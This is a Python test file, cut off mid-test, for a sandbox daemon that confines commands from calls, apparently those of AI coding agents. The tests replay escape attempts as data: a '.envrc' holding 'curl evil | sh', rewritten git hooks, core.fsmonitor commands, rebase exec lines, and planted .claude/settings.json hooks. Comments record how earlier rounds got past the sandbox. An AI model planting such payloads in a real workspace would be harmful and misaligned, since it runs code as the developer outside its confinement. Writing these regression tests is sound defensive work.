        self.assertEqual(r.returncode, 0, r.stderr)
        resp = self.run_call(["git", "-C", "nested", "fetch", "origin"])
        self.assertEqual(resp["reply"]["data"]["rule_id"], "git-fetch", resp)
        self.assertFalse(os.path.exists(marker), "the nested config's shell ran")
        # git ran and was refused the shell (a fetch from a local path needs one:
        # docs/policy.md says so); the forges' URLs need none.
        err = base64.b64decode(resp["stages"][0].get("stderr", "")).decode()
        self.assertIn("cannot exec", err, resp)
        self.assert_git_untouched()

    def test_a_hook_managers_hooks_are_read_only(self):
        # husky's .husky (core.hooksPath) held a pre-commit hook a call
        # rewrote; the developer's next git commit ran it (s36 attack).
        hooks = os.path.join(self.ws, ".husky")
        os.mkdir(hooks)
        with open(os.path.join(hooks, "pre-commit"), "w") as f:
            f.write("#!/bin/sh\nnpm test\n")
        write = ("open('.husky/pre-commit', 'w').write('id > /tmp/pwned')")
        self.assert_ran_and_failed([[PY, "-c", write]])
        self.assert_ran_and_failed([[PY, "-c", "open('.husky/post-merge', 'w').write('x')"]])
        with open(os.path.join(hooks, "pre-commit")) as f:
            self.assertEqual(f.read(), "#!/bin/sh\nnpm test\n")
        self.assertEqual(os.listdir(hooks), ["pre-commit"])

    def test_a_protected_name_the_call_made_is_set_aside(self):
        # No mount covers a name that is not there: a call created
        # .claude/settings.json (the hooks Claude Code runs, unconfined),
        # .envrc and .vscode where none existed (s36).
        for name in (".claude", ".envrc", ".vscode"):
            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)))
        # The call also takes the name it would be set aside as (its trace id
        # is in its cgroup's name), which kept the planted file (s36 attack).
        plant = ("import os, re; os.makedirs('.claude'); "
                 "open('.claude/settings.json', 'w').write('{\"hooks\": {}}'); "
                 "open('.envrc', 'w').write('curl evil | sh'); os.symlink('/etc', '.vscode'); "
                 "open('notes.txt', 'w').write('fine'); "
                 "t = set(re.findall(r'([0-9a-f]{8})-[0-9a-f]{4}-', "
                 "open('/proc/self/cgroup').read())); "
                 "[os.mkdir(n + '.callgate-set-aside-' + x) "
                 "for n in ('.envrc', '.claude', '.vscode') for x in t]")
        resp = self.run_call([PY, "-c", plant])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        tid = resp["reply"]["trace_id"]
        for name in (".claude", ".envrc", ".vscode"):
            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)
            aside = [n for n in os.listdir(self.ws)
                     if re.fullmatch(re.escape(name) + r"\.callgate-set-aside-%s-[0-9a-f]{16}"
                                     % tid[:8], n)]
            self.assertEqual(len(aside), 1, (name, os.listdir(self.ws)))
        with open(os.path.join(self.ws, "notes.txt")) as f:
            self.assertEqual(f.read(), "fine")  # what the call may write stays
        # The call's record names each.
        fin = []
        for _ in range(100):  # written lazily, within milliseconds
            ev = [json.loads(l) for l in cgtest.journal_lines(self.d.state_dir)]
            fin = [e["payload"] for e in ev if e["trace"] == tid and e["type"] == "exec.finished"]
            if fin:
                break
            time.sleep(0.05)
        self.assertEqual(sorted(x["path"] for x in fin[0]["set_aside"]),
                         sorted(os.path.join(self.ws, n) for n in (".claude", ".envrc", ".vscode")))
        self.assert_git_untouched()

    def while_first_runs(self, first, then):
        """Run python code first in a call; once it has made ws/a-made-it, call
        then() while the first still runs. The first's response and then's result."""
        ready = os.path.join(self.ws, "a-made-it")
        box = {}
        t = threading.Thread(target=lambda: box.update(a=self.run_call([PY, "-c", first])))
        t.start()
        for _ in range(200):
            if os.path.exists(ready):
                break
            time.sleep(0.02)
        self.assertTrue(os.path.exists(ready), box)
        b = then()
        t.join(60)
        return box["a"], b

    def overlapping_calls(self, first, second):
        """Both responses: second run in a call while first still runs (while_first_runs)."""
        return self.while_first_runs(first, lambda: self.run_call([PY, "-c", second]))

    def test_what_tools_run_on_opening_the_project_is_read_only(self):
        # cargo metadata (rust-analyzer, on opening the project) ran a call's
        # .cargo/config.toml build.rustc-wrapper as the developer (s39a F4).
        plant = ("import os; os.makedirs('.cargo', exist_ok=True); "
                 "open('.cargo/config.toml', 'w').write('[build]\\nrustc-wrapper = \"/tmp/w\"\\n'); "
                 "open('.yarnrc.yml', 'w').write('yarnPath: ./evil.cjs\\n')")
        resp = self.run_call([PY, "-c", plant])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        for name in (".cargo/config.toml", ".yarnrc.yml"):
            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)
        # One the developer keeps is read-only to calls.
        keep = os.path.join(self.ws, ".cargo", "config.toml")
        os.makedirs(os.path.dirname(keep), exist_ok=True)
        with open(keep, "w") as f:
            f.write("[build]\n")
        self.assert_ran_and_failed([[PY, "-c", "open('.cargo/config.toml', 'a').write('x')"]])
        with open(keep) as f:
            self.assertEqual(f.read(), "[build]\n")

    def test_a_gitmodules_that_blocks_holds_no_other_call(self):
        # A call made .gitmodules a FIFO (or a link to /dev/zero), which every
        # later view build read as root: their workers hung for good and the
        # daemon no longer stopped (s39a). Each other call is answered now.
        for make in ("os.mkfifo('.gitmodules')", "os.symlink('/dev/zero', '.gitmodules')"):
            first = ("import os, time; %s; open('a-made-it', 'w').close(); time.sleep(2)"
                     % make)

            def second():  # a call with the workspace to write: its view protects submodules
                started = time.monotonic()
                r = self.d.request(cgtest.make_request([["sh", "-c", "echo B"]],
                                                       privileged=False), timeout=30)
                return r, time.monotonic() - started
            a, (b, took) = self.while_first_runs(first, second)
            self.assertLess(took, 20)
            # Not run without its submodules' protection: refused, naming the file.
            self.assertEqual(b["status"], "error", b)
            self.assertIn(".gitmodules", b["reply"]["message"], b)
            self.assertEqual(a["status"], "ok", a)
            self.assertFalse(os.path.lexists(os.path.join(self.ws, ".gitmodules")))
            os.unlink(os.path.join(self.ws, "a-made-it"))
        self.d.stop()  # it still stops (a hung worker had kept it from exiting)
        self.assert_git_untouched()

    def test_an_overlapping_call_cannot_keep_a_name_another_call_made(self):
        # s37 attack: call B began while call A's new .envrc was there, so B
        # held it read-only; A's sweep renamed it on the host, B's read-only
        # mount moved with it, and B wrote a fresh .envrc no sweep took.
        made = ("import os, time; open('.envrc', 'w').write('a'); "
                "os.makedirs('.claude'); open('.claude/settings.json', 'w').write('a'); "
                "open('a-made-it', 'w').close(); time.sleep(2)")
        again = ("import os, time; time.sleep(3.5); "
                 "open('.envrc', 'w').write('curl evil | sh'); os.makedirs('.claude'); "
                 "open('.claude/settings.json', 'w').write('{\"hooks\": {}}')")
        a, b = self.overlapping_calls(made, again)
        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
        self.assertEqual([s["exit_code"] for s in a["stages"]], [0], a)
        for name in (".envrc", ".claude"):
            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)),
                             (name, sorted(os.listdir(self.ws))))
        self.assert_git_untouched()

    def test_the_git_files_of_submodules_and_worktrees_are_read_only(self):
        # s37 attack: a call re-pointed a submodule's (and an in-workspace
        # worktree's) .git file at a repository of its own with
        # core.fsmonitor set; the developer's git status at the root ran it.
        sub = os.path.join(self.ws, "sub")
        # As git writes and reads them: a quoted path, a key in capitals, a comment.
        with open(os.path.join(self.ws, ".gitmodules"), "w") as f:
            f.write('[submodule "sub"]\n\tpath = sub\n\turl = ./sub.git\n'
                    '[submodule "a#b"]\n\tpath = "a#b"\n\turl = ./x.git\n'
                    '[submodule "c"]\n\tPath = c ; third\n\turl = ./c.git\n'
                    '[submodule "d"] path = d\n')
        for name in ("sub", "a#b", "c", "d"):
            os.makedirs(os.path.join(self.ws, name))
            with open(os.path.join(self.ws, name, ".git"), "w") as f:
                f.write("gitdir: ../.git/modules/%s\n" % name)
        subprocess.run(["git", "-C", self.ws, "worktree", "add", "-q", ".wt/feature", "-b",
                        "feature"], check=True, capture_output=True)
        wt = os.path.join(self.ws, ".wt", "feature", ".git")
        files = {}
        for path in (os.path.join(sub, ".git"), os.path.join(self.ws, "a#b", ".git"),
                     os.path.join(self.ws, "c", ".git"), os.path.join(self.ws, "d", ".git"),
                     wt):
            with open(path) as f:
                files[path] = f.read()
        for path in files:
            rel = os.path.relpath(path, self.ws)
            for code in ("open(%r, 'w').write('gitdir: ../evil')" % rel,
                         "open(%r + '.n', 'w').write('gitdir: ../evil'); "
                         "os.rename(%r + '.n', %r)" % (rel, rel, rel),
                         "os.rename(%r, %r)" % (os.path.dirname(rel) or ".",
                                                (os.path.dirname(rel) or ".") + "-moved")):
                self.assert_ran_and_failed([[PY, "-c", "import os; " + code]])
        for path, text in files.items():
            with open(path) as f:
                self.assertEqual(f.read(), text, path)

    def test_a_mercurial_repository_is_read_only_and_a_new_one_set_aside(self):
        # s37 attack: hg status loaded the extension and ran the hooks a call
        # wrote into .hg/hgrc; .pdbrc ran under the developer's pdb.
        hg = os.path.join(self.ws, ".hg")
        os.makedirs(hg)
        with open(os.path.join(hg, "hgrc"), "w") as f:
            f.write("[ui]\n")
        self.assert_ran_and_failed([[PY, "-c", "open('.hg/hgrc', 'a').write("
                                            "'[hooks]\\npre-status = touch x\\n')"]])
        with open(os.path.join(hg, "hgrc")) as f:
            self.assertEqual(f.read(), "[ui]\n")
        resp = self.run_call([PY, "-c", "import os; open('.pdbrc', 'w').write('!import os'); "
                                        "os.makedirs('.jj/repo'); os.makedirs('.gemini')"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        for name in (".pdbrc", ".jj", ".gemini"):
            self.assertFalse(os.path.lexists(os.path.join(self.ws, name)), name)

    def test_a_call_cannot_keep_a_name_by_moving_another_calls_away(self):
        # s37 attack on the fix above: call A made .envrc, B began and held
        # it read-only, then A itself renamed it away (no sweep involved), and
        # B wrote a fresh .envrc.
        made = ("import os, time; open('.envrc', 'w').write('a'); "
                "open('a-made-it', 'w').close(); time.sleep(1.5); "
                "os.rename('.envrc', 'envrc.moved')")
        # B writes once A has ended (so A's own sweep cannot take it).
        again = ("import os, time; time.sleep(3); "
                 "open('.envrc', 'w').write('curl evil | sh')")
        a, b = self.overlapping_calls(made, again)
        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
        self.assertEqual([s["exit_code"] for s in a["stages"]], [0], a)
        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
                         sorted(os.listdir(self.ws)))
        self.assert_git_untouched()

    def test_a_protected_name_that_is_a_link_is_not_replaced(self):
        # A link at a protected name: its target is read-only, and a call that
        # replaces the link itself has its file set aside (s37 attack: a
        # call's dangling .envrc link held nothing, and an overlapping call
        # wrote a regular .envrc).
        real = os.path.join(self.ws, "envrc.real")
        with open(real, "w") as f:
            f.write("export A=1\n")
        os.symlink("envrc.real", os.path.join(self.ws, ".envrc"))
        time.sleep(0.1)
        r = self.run_call([PY, "-c", "import os; os.unlink('.envrc'); "
                                     "open('.envrc', 'w').write('curl evil | sh')"])
        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
                         (r, sorted(os.listdir(self.ws))))
        with open(real) as f:
            self.assertEqual(f.read(), "export A=1\n")
        os.unlink(real)
        made = ("import os, time; os.symlink('nowhere', '.envrc'); "
                "open('a-made-it', 'w').close(); time.sleep(1.5)")
        again = "import time; time.sleep(3); open('.envrc', 'w').write('curl evil | sh')"
        a, b = self.overlapping_calls(made, again)
        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
                         sorted(os.listdir(self.ws)))

    def test_a_developers_save_during_a_call_is_not_set_aside(self):
        # The check above is only for names that changed since the oldest
        # live call began: the developer's own .envrc, saved by an editor
        # that renames over it while a call runs, stays where it is.
        envrc = os.path.join(self.ws, ".envrc")
        with open(envrc, "w") as f:
            f.write("export A=1\n")
        time.sleep(0.1)
        box = {}
        t = threading.Thread(target=lambda: box.update(r=self.run_call(
            [PY, "-c", "import time; time.sleep(1.5)"])))
        t.start()
        time.sleep(0.7)
        with open(envrc + ".swp", "w") as f:
            f.write("export A=2\n")
        os.rename(envrc + ".swp", envrc)
        t.join(60)
        self.assertEqual([s["exit_code"] for s in box["r"]["stages"]], [0], box)
        with open(envrc) as f:
            self.assertEqual(f.read(), "export A=2\n")
        os.unlink(envrc)

    def test_nothing_but_git_runs_while_git_is_writable(self):
        # A nested repository's config is the call's to write; its fsmonitor
        # ran (through sh) while git recorded work with the outer .git
        # writable, and wrote .git/commondir there (found by a review).
        sub = os.path.join(self.ws, "sub")
        git_repo(sub)
        marker = os.path.join(self.ws, "fsmonitor-ran")
        plant = "echo ../evil > %s/.git/commondir; touch %s; true" % (self.ws, marker)
        subprocess.run(["git", "-C", sub, "config", "core.fsmonitor", plant], check=True)
        for pipeline in ([["git", "-C", "sub", "commit", "-q", "--allow-empty", "-m", "t"]],
                         [["git", "add", "sub"]]):
            self.run_call(*pipeline)
        self.assertFalse(os.path.exists(marker))  # git-record: nothing but git ran
        # Outside git-record the fsmonitor runs (confined), with .git read-only.
        self.run_call(["git", "status", "--short"])
        self.assert_git_untouched()

    def test_a_git_link_is_refused(self):
        # A .git that is a link can be swapped for a fresh one, and no mount
        # covers a link: such a view is not built (a review found its hooks
        # and config writable).
        gitdir = os.path.join(self.ws, "gitdir")
        os.rename(self.git, gitdir)
        os.symlink("gitdir", self.git)
        try:
            # A view with no protect list of a policy's own: judged by effect.
            hook = os.path.join(gitdir, "hooks", "pre-commit")
            r = sandbox("--write", self.ws, "--", "sh", "-c",
                        "echo '#!/bin/sh' > .git/hooks/pre-commit; echo x >> .git/config",
                        cwd=self.ws)
            self.assertFalse(os.path.exists(hook))
            self.assertEqual(digest_tree(gitdir, ("config",)),
                             {k: v for k, v in self.before.items() if k == "config"})
            self.assertNotEqual(r.returncode, 0, r)
            # Through the daemon: the stage is refused, naming the link.
            resp = self.d.request(cgtest.make_request([["touch", "x"]], privileged=False),
                                  timeout=60)
            self.assertEqual(resp["status"], "error", resp)
            self.assertFalse(os.path.exists(os.path.join(self.ws, "x")))
            self.assertEqual(resp["reply"]["code"], "MCP-CONF-E-002", resp)
            self.assertIn("ELOOP", resp["reply"]["message"])
        finally:
            os.unlink(self.git)
            os.rename(gitdir, self.git)

    def restart_with_python_writing_git(self):
        """A daemon whose policy grants python `git: write`, to try the pinned .git itself."""
        self.d.close()
        policy = ("version: 1\nrules:\n  - id: py\n    decision: degrade\n"
                  "    match: { exe: [python3] }\n"
                  "    constraints: { read: [/], write: ['${workspace}'], git: write }\n")
        self.d = cgtest.Daemon(policy_text=policy).start()
        self.ws = self.d.workspace
        git_repo(self.ws)

    def test_a_rebase_left_with_commands_to_run_is_set_aside(self):
        # s41c F1: a rebase a call left stopped with exec lines in its todo
        # ran them on the developer's `git rebase --continue`. Whatever lets
        # a call write such a todo (here a policy granting python git: write),
        # the rebase state is set aside after the call.
        self.restart_with_python_writing_git()
        # s41d F1: a merge strategy is a program too (git-merge-../../x ran ./x).
        for rel, text, kept in (
                ("rebase-merge/git-rebase-todo", "pick 0000000 x\nexec touch /tmp/PWNED\n", False),
                ("rebase-merge/git-rebase-todo", "pick 0000000 x\n  x touch /tmp/PWNED\n", False),
                ("rebase-merge/git-rebase-todo", "pick 0000000 x\n", True),
                ("rebase-merge/strategy", "../../x\n", False),
                ("rebase-merge/strategy", "ort\n", True),
                ("sequencer/opts", "[options]\n\tstrategy = ../../x\n", False),
                ("sequencer/opts", "[options]\n\tstrategy = recursive\n", True),
                # s44d F1: as git reads it, the key on the header's line and
                # in any case, the value quoted.
                ("sequencer/opts", "[options] Strategy = foo/../x\n", False),
                ("sequencer/opts", "[options]\n\tSTRATEGY=\"../../x\"\n", False),
                ("sequencer/opts", "[options]\n\tstrategy-option = theirs\n", True)):
            d = rel.split("/")[0]
            prog = ("import os; os.makedirs('.g' + 'it/%s', exist_ok=True); "
                    "open('.g' + 'it/%s', 'w').write(%r)" % (d, rel, text))
            resp = self.d.request(cgtest.make_request([[PY, "-c", prog]], privileged=False,
                                                      cwd=self.ws), timeout=60)
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            self.assertEqual(os.path.exists(os.path.join(self.ws, ".git", rel)), kept, rel)
            if not kept:
                self.assertEqual(resp["reply"]["code"], "MCP-EXEC-S-002", resp)
            shutil.rmtree(os.path.join(self.ws, ".git", d), ignore_errors=True)

    def test_git_write_pins_git_and_keeps_what_runs_read_only(self):
        self.restart_with_python_writing_git()
        self.git = os.path.join(self.ws, ".git")
        wt = os.path.join(self.git, "worktrees", "w")
        os.makedirs(wt)
        with open(os.path.join(wt, "commondir"), "w") as f:
            f.write("../..\n")
        self.before = digest_tree(self.git, self.WATCH)
        probe = os.path.join(self.ws, "probe.py")
        with open(probe, "w") as f:
            f.write(PROBE)
        copy = os.path.join(self.ws, "true-copy")
        shutil.copy("/bin/true", copy)
        g = f"os.path.join({self.ws!r}, '.git')"
        argv = [PY, probe,
                f"hook=open(os.path.join({g}, 'hooks', 'post-commit'), 'w').write('x')",
                f"config=open(os.path.join({g}, 'config'), 'a').write('x')",
                f"wt=open(os.path.join({g}, 'worktrees', 'w', 'commondir'), 'w').write('/x')",
                f"rename=os.rename({g}, {g} + '-orig')",
                f"rmdir=os.rmdir({g})",
                # Nothing the call can write runs, not even through the loader.
                f"ldso=check(__import__('subprocess').run([{LOADER!r}, {copy!r}]).returncode"
                f" == 0, errno.EACCES)",
                f"ldso_control=check(__import__('subprocess').run([{LOADER!r}, '/bin/true'])"
                f".returncode == 0, errno.EACCES)",
                f"control=open(os.path.join({g}, 'description'), 'w').write('ok')"]
        resp = self.d.request(cgtest.make_request([argv], privileged=False), timeout=60)
        self.assertEqual(resp["status"], "ok", resp)
        out = base64.b64decode(resp.get("stdout", "")).decode()
        res = dict(line.split(" ", 1) for line in out.splitlines())
        self.assertEqual(res, {"hook": "EROFS", "config": "EROFS", "wt": "EROFS",
                               "rename": "EBUSY", "rmdir": "EBUSY", "ldso": "EACCES",
                               "ldso_control": "OK", "control": "OK"})
        self.assertEqual(digest_tree(self.git, self.WATCH), self.before)
        view = resp["reply"]["data"]["confinement"]["view"]
        self.assertEqual(view["pinned"], [os.path.realpath(self.git)])


@unittest.skipUnless(os.geteuid() == 0, "needs root (a root peer's approved call)")
@unittest.skipUnless(os.geteuid() == 0, "needs root: a daemon serving two uids")
class RepositoriesWhenTheWatchMissedChanges(unittest.TestCase):
    """The sweep when a call's watch lost changes (a file system fanotify
    cannot mark; its record bound, which a call could reach on purpose): every
    directory is walked and what changed since the call began is judged. The
    bound is made one byte (a test-only knob), so every call takes that path;
    the same tests as with the watch, judged the same way."""

    class Case(RepositoryInTheWorkspace):
        ENV = {"CALLGATE_TEST_WATCH_BYTES": "1"}

    def test_the_same_sweeps_hold(self):
        names = ("test_repositories_out_of_the_walks_reach_run_nothing_for_the_developer",
                 "test_a_repository_a_call_makes_runs_nothing_for_the_developer",
                 "test_what_makes_a_directory_a_repository_is_judged_as_git_judges_it",
                 "test_a_submodules_config_and_a_hook_managers_hooks_deep_down",
                 "test_a_repository_staged_earlier_and_renamed_in_runs_nothing")
        suite = unittest.TestSuite(self.Case(n) for n in names)
        result = unittest.TestResult()
        suite.run(result)
        self.assertEqual(result.testsRun, len(names))
        self.assertEqual((result.failures, result.errors), ([], []),
                         "\n".join(t for _, t in result.failures + result.errors))


class AWorkspaceNoWatchCovers(unittest.TestCase):
    """s43e F1: a workspace on a file system fanotify cannot mark (ramfs here;
    FUSE, 9p) got no watch, and the sweep then walked only the prepare's three
    levels: a deep repository's config the call wrote ran for the developer.
    Without a watch the whole tree is walked."""

    def test_a_deep_repository_is_judged_without_a_watch(self):
        root = tempfile.mkdtemp(prefix="cg-ramfs-")
        self.addCleanup(shutil.rmtree, root, True)
        if subprocess.run(["mount", "-t", "ramfs", "cg-ramfs", root]).returncode != 0:
            self.skipTest("no ramfs to mount")
        self.addCleanup(subprocess.run, ["umount", "-l", root])
        ws = os.path.join(root, "ws")
        os.mkdir(ws)
        with cgtest.Daemon(workspaces=[ws]) as d:
            mine = os.path.join(ws, "a", "b", "c", "d", "mine")
            git_repo(mine)
            cfg = os.path.join(mine, ".g" + "it", "con" + "fig")
            resp = d.request(cgtest.make_request(
                [[PY, "-c", "open(%r, 'a').write('[core]\\n\\tfsmonitor = x\\n')" % cfg]],
                privileged=False, cwd=ws), timeout=60)
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            self.assertFalse(os.path.exists(cfg) and "fsmonitor" in open(cfg).read(), resp)
            self.assertIn("walked whole", d.log)


class ACallACrashCutShort(unittest.TestCase):
    """s43a F3, s43b F2: a daemon killed while a writing call ran never swept
    that call. Its new repository with a core.fsmonitor, its .envrc and a
    hook planted in the developer's repository below the root stayed, and
    the developer's next git status ran the command. The next start sweeps
    the write trees the call's permit named, before it serves a call, judged
    by what changed since the permit; the developer's own older files stay."""

    def test_the_next_start_sweeps_what_it_left(self):
        d = cgtest.Daemon().start()
        self.addCleanup(d.close)
        ws = d.workspace
        git_repo(ws)
        mine = os.path.join(ws, "old", "mine")
        git_repo(mine)
        mine_git = os.path.join(mine, ".g" + "it")
        with open(os.path.join(mine_git, "con" + "fig"), "a") as f:
            f.write("[alias]\n\tst = status\n")  # the developer's, before the call
        with open(os.path.join(mine_git, "con" + "fig")) as f:
            mine_cfg = f.read()
        time.sleep(0.3)
        marker = os.path.join(ws, "FSMON_RAN")
        started = os.path.join(ws, "started")
        plant = ("import os, subprocess, time; G = '.g' + 'it'; "
                 "subprocess.run(['git', 'init', '-q', 'deep/a/b/new'], check=True); "
                 "open('deep/a/b/new/' + G + '/con' + 'fig', 'a')"
                 ".write('[core]\\n\\tfsmonitor = touch %s\\n'); "
                 "open('.en' + 'vrc', 'w').write('touch %s\\n'); "
                 "open(%r, 'w').close(); time.sleep(120)") % (marker, marker, started)
        box = {}

        def send():
            try:
                box["r"] = d.request(cgtest.make_request([[PY, "-c", plant]], privileged=False,
                                                         timeout_ms=150000), timeout=150)
            except Exception as e:  # the daemon dies under it
                box["e"] = e

        t = threading.Thread(target=send, daemon=True)
        t.start()
        end = time.time() + 30
        while time.time() < end and not os.path.exists(started):
            time.sleep(0.05)
        self.assertTrue(os.path.exists(started), box)
        self.assertTrue(os.path.exists(os.path.join(ws, ".en" + "vrc")))
        d.stop(signal.SIGKILL)
        t.join(10)
        if d._logf:
            d._logf.close()
            d._logf = None
        d.start()
        new_git = os.path.join(ws, "deep", "a", "b", "new", ".g" + "it")
        self.assertFalse(os.path.exists(new_git), d.log)
        self.assertFalse(os.path.exists(os.path.join(ws, ".en" + "vrc")), d.log)
        self.assertIn("a call a crash cut short while it ran", d.log)
        # By effect: the developer's git runs nothing of the call's.
        for repo in (os.path.join(ws, "deep", "a", "b", "new"), mine, ws):
            subprocess.run(["git", "-C", repo, "status"], capture_output=True)
        self.assertFalse(os.path.exists(marker))
        # The developer's own repository and its older config stay.
        with open(os.path.join(mine_git, "con" + "fig")) as f:
            self.assertEqual(f.read(), mine_cfg)
        # Recorded, and the journal still verifies.
        d.stop()
        seg = os.path.join(d.state_dir, "journal")
        events = []
        for name in sorted(os.listdir(seg)):
            if name.endswith(".ndjson"):
                with open(os.path.join(seg, name)) as f:
                    events += [json.loads(ln) for ln in f if ln.strip()]
        swept = [e["payload"] for e in events if e["type"] == "recovery"
                 and "calls" in e["payload"]]
        self.assertEqual(len(swept), 1, swept)
        self.assertEqual(swept[0]["calls"][0]["trees"], [ws])
        paths = sorted(x["path"] for x in swept[0]["calls"][0]["set_aside"])
        self.assertEqual(paths, sorted([new_git, os.path.join(ws, ".en" + "vrc")]))
        p = subprocess.run([cgtest.CALLGATE, "--state-dir", d.state_dir, "replay", "--all"],
                           capture_output=True, text=True, timeout=120)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)


class AnotherUsersWorkspace(unittest.TestCase):
    """s42a F1: a daemon with two users' workspaces took a call's cwd in
    either, whoever sent it, and entered it as root: nobody's call read a
    file below another uid's 0700 home through a cwd there (and under /tmp
    the call's own /tmp made that home 0755). Judged by the bytes that come
    back; nobody's own workspace still works."""

    def check(self, base, acl=False):
        other_home = os.path.join(base, "home", "other")
        theirs = os.path.join(other_home, "proj")
        mine = os.path.join(base, "home", "dev", "proj")
        for path in (theirs, mine):
            os.makedirs(path)
        for path in (base, os.path.join(base, "home"), os.path.dirname(mine), mine, theirs):
            os.chmod(path, 0o755)
        os.chown(os.path.dirname(mine), 65534, 65534)
        os.chown(mine, 65534, 65534)
        with open(os.path.join(theirs, "secret.txt"), "w") as f:
            f.write("OTHER-USERS-SECRET\n")
        with open(os.path.join(mine, "notes.txt"), "w") as f:
            f.write("MY-NOTES\n")
        for path in (other_home, theirs, os.path.join(theirs, "secret.txt")):
            os.chown(path, 4242, 4242)
        os.chmod(other_home, 0o700)
        os.chmod(os.path.join(theirs, "secret.txt"), 0o644)
        if acl:
            # s42d F3: open by its mode (0755), shut to nobody by an access ACL
            # (user:65534:---), which the call's /tmp had not copied.
            import struct
            os.chmod(other_home, 0o755)
            ent = lambda tag, perm, uid=0xffffffff: struct.pack("<HHI", tag, perm, uid)
            os.setxattr(other_home, "system.posix_acl_access",
                        struct.pack("<I", 2) + ent(0x01, 7) + ent(0x02, 0, 65534) +
                        ent(0x04, 5) + ent(0x10, 5) + ent(0x20, 5))
            host = cgtest.as_uid(65534, lambda: os.access(os.path.join(theirs, "secret.txt"),
                                                          os.R_OK))
            self.assertFalse(host, "the ACL shuts nobody out on the host")
        with cgtest.Daemon(workspaces=[mine, theirs]) as d:
            os.chmod(d.tmp, 0o755)
            os.chmod(d.socket, 0o666)

            def call(cwd, argv):
                req = cgtest.make_request([argv], privileged=False, cwd=cwd)
                return cgtest.as_uid(65534, lambda: cgtest.parse_response(
                    cgtest.send_recv(d.socket, cgtest.encode(req), timeout=60)))
            out = lambda r: base64.b64decode(r.get("stdout", "")).decode(errors="replace")
            ok = call(mine, ["cat", "notes.txt"])
            self.assertIn("MY-NOTES", out(ok), ok)
            for argv in (["cat", "secret.txt"], ["cat", os.path.join(theirs, "secret.txt")]):
                r = call(theirs, argv)
                self.assertNotIn("OTHER-USERS-SECRET", out(r) + json.dumps(r), r)
                self.assertEqual(r["reply"]["code"], "MCP-EXEC-I-002", r["reply"])

    def check_in(self, parent, acl=False):
        base = tempfile.mkdtemp(prefix="cg-users-", dir=parent)
        self.addCleanup(shutil.rmtree, base, True)
        self.check(base, acl)

    def test_a_cwd_below_another_uids_home_is_not_entered(self):
        self.check_in("/var/tmp")

    def test_nor_under_tmp_where_the_calls_tmp_rebuilds_the_path(self):
        self.check_in("/tmp")

    def test_nor_past_an_acl_the_calls_tmp_rebuilds(self):
        self.check_in("/tmp", acl=True)


class ScratchDirectories(unittest.TestCase):
    """s42a F3: an approved npm install wrote the host's ~/.cache, and the
    yarn its install script planted there ran later, for the developer,
    unconfined. A scratch directory is the call's own: written in the call,
    never the host's, gone after it. Judged by the host's directory."""

    def test_a_scratch_directory_is_written_and_nothing_of_it_stays(self):
        base = tempfile.mkdtemp(prefix="cg-scratch-", dir="/var/tmp")
        try:
            cache = os.path.join(base, "cache")
            os.makedirs(os.path.join(cache, "node"))
            with open(os.path.join(cache, "host-file"), "w") as f:
                f.write("the host's\n")
            policy = ("version: 1\nrules:\n  - id: sh\n    decision: degrade\n"
                      "    match: { exe: [sh] }\n"
                      "    constraints: { read: [/], write: ['${workspace}'], "
                      "scratch: ['%s'] }\n" % cache)
            with cgtest.Daemon(policy_text=policy) as d:
                r = d.request(cgtest.make_request(
                    [["sh", "-c", "ls -A %s; mkdir -p %s/node/corepack && echo planted > "
                      "%s/node/corepack/yarn && cat %s/node/corepack/yarn" %
                      (cache, cache, cache, cache)]], privileged=False), timeout=60)
                out = base64.b64decode(r.get("stdout", "")).decode()
                self.assertEqual([s["exit_code"] for s in r["stages"]], [0], r)
                self.assertEqual(out, "planted\n", "an empty directory, written")
                self.assertEqual(r["reply"]["data"]["confinement"]["view"]["scratch"], [cache])
            self.assertEqual(sorted(os.listdir(cache)), ["host-file", "node"])
            self.assertEqual(os.listdir(os.path.join(cache, "node")), [])
        finally:
            shutil.rmtree(base, ignore_errors=True)


class ApprovedCallInAView(unittest.TestCase):
    """A human's approval lifts "needs a human", never the view (item 6)."""

    def test_approved_unprivileged_call_runs_in_the_view(self):
        import threading
        import time
        policy = ('version: 1\nrules:\n  - id: ask-cat\n    decision: defer\n'
                  '    match: { exe: [cat] }\n')
        with cgtest.Daemon(policy_text=policy,
                           flags=["--approval", "--approval-timeout", "15000"]) as d:
            box = {}
            req = cgtest.make_request([["cat", "/etc/shadow"]], privileged=False,
                                      reason="read it")
            t = threading.Thread(target=lambda: box.update(resp=d.request(req, timeout=60)))
            t.start()
            for _ in range(200):
                p = d.admin("pending")["reply"]["data"]["pending"]
                if p:
                    break
                time.sleep(0.05)
            self.assertTrue(p, d.log)
            r = d.cli("approve", p[0]["trace_id"])
            self.assertEqual(r.returncode, 0, r.stderr)
            t.join(60)
        resp = box["resp"]
        self.assertEqual(resp["status"], "ok", resp)
        self.assertEqual(resp["stages"][0]["exit_code"], 1)
        err = base64.b64decode(resp["stages"][0].get("stderr", "")).decode()
        self.assertIn("Permission denied", err)  # a root peer, without the view, reads it
        self.assertEqual(resp["reply"]["data"]["confinement"]["view"]["root"], "read-only")


@unittest.skipUnless(os.geteuid() == 0 and PY, "needs root and python3")
class ForwardAgentInAView(unittest.TestCase):
    """forward_agent grants exactly the daemon's agent socket; every other
    socket in the same hidden directory stays out of reach."""

    def test_the_daemons_agent_is_hidden_wherever_it_lives(self):
        # s39c: an agent under a path the view shows (~/.1password/agent.sock)
        # was reached by a call that never asked: it listed and wiped the keys.
        run_dir = tempfile.mkdtemp(prefix="cg-agent-", dir="/var/tmp")
        agent = os.path.join(run_dir, "agent.sock")
        a = unix_listener(agent)
        try:
